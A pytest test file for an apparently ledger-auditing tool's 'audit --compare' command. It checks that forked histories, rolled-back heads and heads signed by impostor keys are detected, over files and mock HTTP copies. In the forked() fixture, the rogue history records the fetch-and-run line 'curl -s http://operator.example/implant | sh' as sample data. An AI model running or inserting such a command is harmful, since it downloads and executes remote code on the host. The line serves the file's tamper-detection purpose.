"""Split views are told apart: ``duet audit --compare FILE|URL`` (issue 9, item 8).

Two copies of one controller's state directory, run side by side, show two histories under
one identity; each auditor alone sees a consistent log. Comparing one auditor's verified head
with another's (a saved head file, or another copy's URL) in both directions reveals the fork.
"""

from __future__ import annotations

import json
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import httpx
import pytest
from ledger_fakes import CONTROLLER, KEY, OWNER, EntryLedger, FakeSource, lawful
from typer.testing import CliRunner

from duet import keys
from duet.cli.context import CliContext
from duet.cli.main import app
from duet.client.audit import Auditor, AuditResult, CompareError, HeadStore, OtherView, RemoteController, load_view
from duet.protocol import lifecycle as lc
from duet.protocol.canonical import canonical
from duet.protocol.envelope import request_target, sign_answer

COMMON = 5


def forked() -> tuple[EntryLedger, EntryLedger]:
    """Two histories sharing their first five entries, then each its own."""
    ours = lawful()
    theirs = ours.prefix(COMMON)
    theirs.run(command="curl -s http://operator.example/implant | sh")
    theirs.mark(lc.IN_UPDATE, lc.IN_SERVICE)
    return ours, theirs


def compare(ours: EntryLedger, view: OtherView, tmp_path: Path) -> AuditResult:
    auditor = Auditor(FakeSource(ours), HeadStore(tmp_path / "auditor"))
    result = auditor.audit()
    assert result.ok, result.findings
    auditor.compare(view, result)
    return result


def codes(result: AuditResult) -> list[str]:
    return [f.code for f in result.findings]


def evidence_of(result: AuditResult) -> dict[str, Any]:
    path = result.comparisons[-1]["evidence"]
    return json.loads(Path(path).read_text())


# --- the other view is a saved head ----------------------------------------------------------


@pytest.mark.parametrize("size", [0, 1, COMMON, None], ids=["empty", "one", "common", "same-size"])
def test_an_older_or_equal_head_of_the_same_history_is_consistent(tmp_path: Path, size: int | None) -> None:
    ours = lawful()
    result = compare(ours, OtherView("their-head.json", ours.head(size)), tmp_path)
    assert result.ok and result.comparisons[0]["consistent"] is True
    assert result.comparisons[0]["relation"] == ("same" if size is None else "prefix")


def test_a_fork_of_the_same_size_is_reported_with_both_heads_as_evidence(tmp_path: Path) -> None:
    ours, theirs = forked()
    while theirs.size < ours.size:
        theirs.run()
    result = compare(ours, OtherView("their-head.json", theirs.head()), tmp_path)
    assert codes(result) == ["fork"] and not result.ok
    evidence = evidence_of(result)
    assert {evidence["earlier_head"]["root_hash"], evidence["later_head"]["root_hash"]} == {
        ours.head()["root_hash"],
        theirs.head()["root_hash"],
    }


def test_a_smaller_head_of_another_history_is_a_fork(tmp_path: Path) -> None:
    ours, theirs = forked()
    assert theirs.size < ours.size
    result = compare(ours, OtherView("their-head.json", theirs.head()), tmp_path)
    assert codes(result) == ["fork"]
    evidence = evidence_of(result)
    assert (evidence["earlier_head"]["tree_size"], evidence["later_head"]["tree_size"]) == (theirs.size, ours.size)


def test_a_larger_saved_head_than_the_controller_shows_is_a_finding(tmp_path: Path) -> None:
    """The controller once signed more than it shows now: rolled back, or another history."""
    ours = lawful()
    older = ours.prefix(COMMON + 2)
    result = compare(older, OtherView("their-head.json", ours.head()), tmp_path)
    assert codes(result) == ["fork"] and "rolled back" in result.findings[0].message


def test_a_head_not_signed_by_the_pinned_key_is_refused(tmp_path: Path) -> None:
    ours = lawful()
    impostor = keys.generate("ed25519")
    forged = {**ours.head(key=impostor), "controller": CONTROLLER}  # names our controller, signed by another key
    result = compare(ours, OtherView("their-head.json", forged), tmp_path)
    assert codes(result) == ["compare_bad_signature"]
    other_controller = ours.head(key=impostor)
    assert codes(compare(ours, OtherView("theirs", other_controller), tmp_path / "2")) == ["compare_bad_signature"]


# --- the other view is another copy's URL --------------------------------------------------


def test_a_larger_head_served_by_a_copy_that_proves_it_extends_ours_is_consistent(tmp_path: Path) -> None:
    theirs = lawful()
    ours = theirs.prefix(COMMON + 3)
    copy = FakeSource(theirs)
    result = compare(ours, OtherView("https://copy.test", theirs.head(), proofs=copy), tmp_path)
    assert result.ok and result.comparisons[0]["relation"] == "extension"
    assert "/v1/ledger/proof/consistency" in copy.requests


def test_a_larger_head_of_another_history_served_by_a_copy_is_a_fork(tmp_path: Path) -> None:
    ours, theirs = forked()
    while theirs.size <= ours.size:
        theirs.run()
    result = compare(ours, OtherView("https://copy.test", theirs.head(), proofs=FakeSource(theirs)), tmp_path)
    assert codes(result) == ["fork"]


def answer(result: Any, key: keys.PrivateKey = KEY, nonce: str | None = None, target: str | None = None) -> dict[str, Any]:
    """A signed answer envelope, as a controller serves it (naming the request ``target``, if given)."""
    return json.loads(
        sign_answer(
            canonical(result), controller=keys.key_id(key.public_key()), signing_key=key, nonce=nonce, request_target=target
        )
    )


def copy_transport(ledger: EntryLedger, key: keys.PrivateKey = KEY) -> httpx.MockTransport:
    """Another copy of the controller over HTTP: signed answers to the head and proof routes."""
    source = FakeSource(ledger)

    def handle(request: httpx.Request) -> httpx.Response:
        query = {name: int(value) for name, value in request.url.params.items() if name != "nonce"}
        target = request_target(request.method, request.url.path, request.url.params.multi_items())
        return httpx.Response(
            200, json=answer(source.get(request.url.path, **query), key, request.url.params.get("nonce"), target)
        )

    return httpx.MockTransport(handle)


def test_a_copy_reached_by_url_is_held_to_the_pinned_key(tmp_path: Path) -> None:
    theirs = lawful()
    ours = theirs.prefix(COMMON)
    pin = FakeSource(ours).pin()
    view = load_view("https://copy.test:6037", pin, transport=copy_transport(theirs))
    assert isinstance(view.proofs, RemoteController)
    assert compare(ours, view, tmp_path).comparisons[0]["relation"] == "extension"
    same_url = load_view("https://copy.test:6037/v1/ledger/head", pin, transport=copy_transport(theirs))
    assert compare(ours, same_url, tmp_path / "2").ok
    # A copy that signs with another key is not this controller, whatever it says of itself.
    impostor = load_view("https://copy.test:6037", pin, transport=copy_transport(theirs, keys.generate("ed25519")))
    assert codes(compare(ours, impostor, tmp_path / "3")) == ["compare_bad_signature"]


def test_a_published_checkpoint_url_cannot_prove_more(tmp_path: Path) -> None:
    ours = lawful()
    older = ours.prefix(COMMON)
    transport = httpx.MockTransport(lambda request: httpx.Response(200, json=ours.head()))
    view = load_view("https://witness.test/checkpoints/latest.json", FakeSource(older).pin(), transport=transport)
    assert view.proofs is None
    assert codes(compare(older, view, tmp_path)) == ["fork"]


# --- files ---------------------------------------------------------------------------------------


def test_head_files_in_every_shape_an_auditor_keeps(tmp_path: Path) -> None:
    ours = lawful()
    pin = FakeSource(ours).pin()
    saved = HeadStore(tmp_path / "other-auditor")
    saved.save(Auditor(FakeSource(ours.prefix(COMMON)), saved).audit().head)  # type: ignore[arg-type]
    shapes = {
        "head-store": saved.directory / f"{CONTROLLER}.json",
        "bare": ours.head(COMMON),
        "answer": answer(ours.head(COMMON)),
        "audit-report": {"ok": True, "head": ours.head(COMMON), "findings": []},
    }
    for name, shape in shapes.items():
        path = shape if isinstance(shape, Path) else tmp_path / f"{name}.json"
        if not isinstance(shape, Path):
            path.write_text(json.dumps(shape))
        result = compare(ours, load_view(str(path), pin), tmp_path / name)
        assert result.ok and result.comparisons[0]["relation"] == "prefix", name


def test_an_unreadable_file_is_an_error_not_a_verdict(tmp_path: Path) -> None:
    pin = FakeSource(lawful()).pin()
    with pytest.raises(CompareError) as missing:
        load_view(str(tmp_path / "nowhere.json"), pin)
    assert missing.value.code == "compare_unreadable"
    (tmp_path / "garbage.json").write_text("not json")
    (tmp_path / "not-a-head.json").write_text(json.dumps({"tree_size": 3}))
    for name in ("garbage.json", "not-a-head.json"):
        with pytest.raises(CompareError):
            load_view(str(tmp_path / name), pin)


# --- the command ---------------------------------------------------------------------------------


class CliSource(FakeSource):
    """What ``CliContext.client()`` returns, for the CLI: a fake controller with a trust store path."""

    def __init__(self, ledger: EntryLedger, home: Path) -> None:
        super().__init__(ledger, owners=(OWNER,))
        self.trust = SimpleNamespace(path=home / "controllers.json")

    def __enter__(self) -> CliSource:
        return self

    def check_identity(self) -> None:
        """The identity it serves is the pinned one (tests/unit/client/test_repin.py tests the check)."""

    def __exit__(self, *exc: object) -> None:
        pass


def run_cli(monkeypatch: pytest.MonkeyPatch, ledger: EntryLedger, home: Path, *args: str) -> tuple[int, dict[str, Any]]:
    monkeypatch.setattr(CliContext, "client", lambda self, owner=False: CliSource(ledger, home))
    result = CliRunner().invoke(app, ["--url", FakeSource.url, "--json", "audit", *args])
    return result.exit_code, json.loads(result.stdout.strip().splitlines()[-1])


def test_the_command_compares_with_a_head_file(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    ours, theirs = forked()
    honest, fork = tmp_path / "honest.json", tmp_path / "fork.json"
    honest.write_text(json.dumps(ours.head(COMMON)))
    fork.write_text(json.dumps(theirs.head()))

    code, report = run_cli(monkeypatch, ours, tmp_path / "home", "--compare", str(honest))
    assert code == 0 and report["ok"] and report["comparisons"][0]["consistent"] is True

    code, report = run_cli(monkeypatch, ours, tmp_path / "home", "--compare", str(honest), "--compare", str(fork))
    assert code == 3 and [f["code"] for f in report["findings"]] == ["fork"]
    assert [c["consistent"] for c in report["comparisons"]] == [True, False]
    assert Path(report["comparisons"][1]["evidence"]).exists()

    code, report = run_cli(monkeypatch, ours, tmp_path / "home", "--compare", str(tmp_path / "missing.json"))
    assert code == 1 and report["error"]["code"] == "compare_unreadable"


def test_the_command_marks_forbidden_rows(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    ledger = lawful()
    ledger.run()  # after the stop
    code, report = run_cli(monkeypatch, ledger, tmp_path / "home")
    assert code == 3 and {f["code"] for f in report["findings"]} >= {"after_lockdown"}
    assert report["timeline"][-2]["violation"] is not None


def test_the_command_says_so_to_people(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    ledger = lawful()
    ledger.run()  # after the stop
    head = tmp_path / "their-head.json"
    head.write_text(json.dumps(ledger.head(COMMON)))
    monkeypatch.setattr(CliContext, "client", lambda self, owner=False: CliSource(ledger, tmp_path / "home"))
    result = CliRunner().invoke(app, ["--url", FakeSource.url, "audit", "--compare", str(head)], env={"COLUMNS": "250"})
    out, err = " ".join(result.stdout.split()), " ".join(result.stderr.split())
    assert result.exit_code == 3
    assert "⚠ FORBIDDEN: after_lockdown" in out and "in-service (final, lockdown pending)" in out
    assert "the two views are consistent" in out
    assert "AUDIT FAILED" in err and "seq 13: command.started after the controller locked itself out" in err
